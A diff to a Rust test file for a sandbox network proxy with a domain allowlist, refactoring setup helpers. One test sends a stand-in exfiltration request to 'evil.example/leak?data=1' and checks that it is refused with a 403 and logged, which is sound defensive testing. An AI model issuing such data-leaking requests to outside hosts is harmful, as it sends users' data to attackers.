@@ -6,12 +6,10 @@ use allowlist::Reason;
 use http::Request;
 use sandbox_proxy_protocol::{BlockReason, Event, RequestOutcome};
 
-use crate::harness::{Answer, Pki, Proxy, Setup, Upstream, body, empty, raw, raw_tls};
+use crate::harness::{Answer, Proxy, Setup, Upstream, body, empty, get, raw, raw_tls};
 
 async fn start() -> (Proxy, Upstream) {
-    let pki = Pki::new();
-    let upstream = Upstream::start(pki.server(&["a.example", "b.example"], &["h2", "http/1.1"])).await;
-    let mut setup = Setup::new(pki, upstream.address);
+    let (mut setup, upstream) = Setup::fresh(&["a.example", "b.example"], &["h2", "http/1.1"]).await;
     setup.policy = "domains: [a.example, b.example]";
     (setup.start().await, upstream)
 }
@@ -200,13 +198,7 @@ async fn without_a_readable_server_name_there_is_no_handshake() {
 #[tokio::test]
 async fn a_refusal_is_recorded_with_what_was_asked() {
     let (proxy, _upstream) = start().await;
-    let answer = proxy
-        .ask2(
-            Request::get("https://evil.example/leak?data=1")
-                .body(empty())
-                .unwrap(),
-        )
-        .await;
+    let answer = proxy.ask2(get("https://evil.example/leak?data=1")).await;
     assert_eq!(answer.status, 403);
     let json: serde_json::Value = serde_json::from_str(&answer.body).unwrap();
     assert_eq!(
